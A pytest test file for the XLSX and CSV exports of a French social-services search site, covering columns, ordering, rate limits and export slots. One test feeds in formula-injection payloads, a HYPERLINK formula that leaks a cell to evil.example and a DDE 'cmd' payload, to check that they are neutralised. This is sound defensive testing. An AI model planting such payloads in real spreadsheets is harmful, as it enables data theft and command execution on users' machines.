"""The exports of a search: the spreadsheet people open (XLSX, read back here with another library than the one
that writes it) and the machine CSV of the contract."""

import csv
import datetime
import io
import time
import types
from urllib.parse import urlsplit

import django_ratelimit.core
import openpyxl
import psycopg
import pytest
from bs4 import BeautifulSoup
from django.core.cache import caches
from django.db import connection
from django.test import override_settings

from core import slots
from services import exports
from services.exports import HEADERS
from tests.services.factories import ServiceFactory
from tests.structures.factories import StructureFactory

pytestmark = pytest.mark.django_db


def workbook(response) -> openpyxl.Workbook:
    assert response.status_code == 200
    content = b"".join(response.streaming_content)  # read to the end, the test client closes it (and the file)
    return openpyxl.load_workbook(io.BytesIO(content))


def rows(sheet) -> list[dict]:
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def page_names(client, params, pages) -> list[str]:
    names = []
    for number in range(1, pages + 1):
        page = BeautifulSoup(client.get("/services/", {**params, "page": number}).content.decode(), "html.parser")
        names += [a.get_text(strip=True) for a in page.select("#services-results article h3 a")]
    return names


def test_the_spreadsheet_holds_labels_address_phone_hours_and_our_pages_in_the_pages_order(client, offer):
    structure = offer[0].structure
    structure.horaires_accueil = "Mo-Fr 09:00-12:00,14:00-17:00; Sa 09:00-12:00"
    structure.save()
    params = {"code_commune": "59350", "thematiques": ["mobilite", "numerique"]}
    response = client.get("/services/export.xlsx", params)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    today = datetime.date.today().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="services-insertion-lille-{today}.xlsx"'
    book = workbook(response)
    assert book.sheetnames == ["Services", "Recherche"]
    sheet = book["Services"]
    assert [cell.value for cell in sheet[1]] == HEADERS
    lines = rows(sheet)
    assert [line["Service"] for line in lines] == page_names(client, params, 2)
    first = lines[0]
    assert first["Structure"] == "Centre social <b>Pagnol</b>"
    assert first["Distance (km)"] == 0.0
    assert first["Adresse"] == "1 rue de la République"
    assert (first["Code postal"], first["Commune"]) == ("59000", "Lille")
    assert first["Téléphone"] == "03 20 00 00 00"  # the structure's, as people read it
    assert first["Horaires"] == "Lundi au vendredi : 9 h – 12 h, 14 h – 17 h ; Samedi : 9 h – 12 h"
    assert first["Comment en bénéficier"] == "Téléphoner"
    assert first["Besoins"] == "Acquérir un équipement"
    assert first["Publics"] == "Tous publics"
    assert (first["Frais"], first["Modes d'accueil"], first["Source"]) == ("Payant", "En présentiel", "DORA")
    assert first["Fiche sur le site"] == "http://testserver/services/dora--svc-00/"
    assert client.get(urlsplit(first["Fiche sur le site"]).path).status_code == 200
    assert sheet["O2"].hyperlink.target == first["Fiche sur le site"]
    assert isinstance(first["Mis à jour le"], datetime.datetime)
    remote = lines[-1]
    assert remote["Distance (km)"] is None and remote["Modes d'accueil"] == "À distance"
    about = {row[0]: row[1] for row in book["Recherche"].iter_rows(values_only=True)}
    assert about["Lieu"] == "Lille (59000), services sur place dans un rayon de 50 km"
    assert about["Besoins"] == "Mobilité, Numérique"
    assert about["Résultats"] == "28 services"
    assert about["Page des résultats"].startswith("http://testserver/services/?code_commune=59350")


def test_no_cell_of_the_spreadsheet_can_run_as_a_formula(client, lille):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    structure = StructureFactory(nom="+cmd|' /C calc'!A0", telephone="+33320000000")
    ServiceFactory(structure=structure, nom=hostile, courriel="@SUM(1+1)")
    line = rows(workbook(client.get("/services/export.xlsx", {"code_commune": "59350"}))["Services"])[0]
    assert line["Service"] == "'" + hostile
    assert line["Structure"] == "'+cmd|' /C calc'!A0"
    assert line["Courriel"] == "'@SUM(1+1)"
    book = workbook(client.get("/services/export.xlsx", {"code_commune": "59350"}))
    assert all(cell.data_type != "f" for row in book["Services"].iter_rows() for cell in row)


def test_the_spreadsheet_of_an_invalid_search_is_a_french_message(client, offer):
    response = client.get("/services/export.xlsx", {"code_commune": "99999"})
    assert response.status_code == 400
    assert response.content.decode() == "Recherche invalide : Aucune commune ne porte le code « 99999 »."


def test_the_spreadsheet_is_limited_as_the_csv(client, monkeypatch):
    # The limit counts per window of an hour starting at a moment of the hour that depends on the address:
    # 300 exports on a slow machine may cross it. The library's clock stands still while they run.
    now = time.time()
    monkeypatch.setattr(django_ratelimit.core, "time", types.SimpleNamespace(time=lambda: now))
    caches["rate_limits"].clear()
    for _ in range(300):
        response = client.get("/services/export.xlsx")
        assert response.status_code == 200 and b"".join(response.streaming_content)  # read: the client closes it
    response = client.get("/services/export.xlsx", {"thematiques": "sante"})
    response.close()  # a spreadsheet let through would keep its temporary file open
    assert response.status_code == 429
    assert int(response["Retry-After"]) > 0


def test_the_machine_csv_keeps_the_contracts_columns_and_codes(client, offer):
    response = client.get("/services/export.csv", {"code_commune": "59350"})
    content = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    lines = list(csv.DictReader(io.StringIO(content)))
    assert list(lines[0]) == [
        *("id", "nom", "structure_id", "structure_nom", "commune", "code_postal", "distance_km"),
        *("modes_accueil", "thematiques", "telephone", "courriel", "lien_source"),
    ]
    assert lines[0]["thematiques"] == "numerique--acquerir-un-equipement"


def test_the_spreadsheet_holds_the_first_results_of_a_very_large_search_and_says_so(client, offer, monkeypatch):
    monkeypatch.setattr(exports, "MAX_SHEET_ROWS", 10)
    book = workbook(client.get("/services/export.xlsx", {"code_commune": "59350"}))
    assert [line["Service"] for line in rows(book["Services"])] == page_names(client, {"code_commune": "59350"}, 1)[
        :10
    ]
    about = {row[0]: row[1] for row in book["Recherche"].iter_rows(values_only=True)}
    assert about["Résultats"] == (
        "les 10 premiers de 28 services (précisez la recherche, ou prenez les données brutes en CSV)"
    )


def rows_of(response) -> list[dict]:
    content = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(content)))


def test_the_export_holds_every_result_in_large_batches(client, settings, django_assert_max_num_queries):
    for index in range(25):
        ServiceFactory(id=f"dora--{index:02d}", score_qualite=index / 100)
    settings.RATELIMIT_ENABLE = False
    with django_assert_max_num_queries(8):  # one query per batch of rows, whatever the number of results
        rows = rows_of(client.get("/services/export.csv"))
    assert [row["id"] for row in rows] == [f"dora--{index:02d}" for index in reversed(range(25))]


@pytest.fixture
def other_worker():
    """Another worker's own connection to the database."""
    params = connection.get_connection_params()
    params.pop("cursor_factory", None)
    with psycopg.connect(**params, autocommit=True) as other:
        yield other


def slot_free(other) -> bool:
    """Whether another worker could take the export slot now (it gives it back at once)."""
    free = other.execute("SELECT pg_try_advisory_lock(%s)", [slots.key("export", 0)]).fetchone()[0]
    if free:
        other.execute("SELECT pg_advisory_unlock(%s)", [slots.key("export", 0)])
    return free


@override_settings(EXPORTS_AT_ONCE=1)
def test_when_every_export_slot_is_taken_the_visitor_is_asked_to_come_back(client, other_worker):
    ServiceFactory()
    other_worker.execute("SELECT pg_advisory_lock(%s)", [slots.key("export", 0)])  # exporting elsewhere
    response = client.get("/services/export.csv")
    assert response.status_code == 503
    assert response["Retry-After"] == "10"
    assert "réessayez" in response.content.decode()
    other_worker.execute("SELECT pg_advisory_unlock(%s)", [slots.key("export", 0)])
    response = client.get("/services/export.csv")
    assert response.status_code == 200
    response.close()  # as the server does once it has sent it: the slot is given back


@override_settings(EXPORTS_AT_ONCE=1)
def test_an_export_gives_its_slot_back_once_sent_or_abandoned(client, other_worker):
    ServiceFactory()
    sent = client.get("/services/export.csv")
    assert not slot_free(other_worker)  # held while the response is being sent
    rows_of(sent)
    sent.close()
    assert slot_free(other_worker)
    abandoned = client.get("/services/export.csv")
    abandoned.close()  # the client went away before the first byte
    assert slot_free(other_worker)
